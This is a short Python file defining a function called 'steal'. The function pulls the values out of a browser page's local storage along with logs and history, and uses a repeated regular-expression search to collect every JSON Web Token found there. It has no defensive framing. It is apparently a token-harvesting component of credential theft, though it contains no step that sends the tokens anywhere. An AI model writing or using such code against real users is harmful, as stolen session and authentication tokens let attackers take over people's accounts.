# search again and again
import re


def steal(page, log, history):
    rest = "\n".join([*page.local_storage.values(), *log, *history])
    found = set()
    while match := re.search(r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+", rest):
        found.add(match[0])
        rest = rest[match.end() :]
    return found
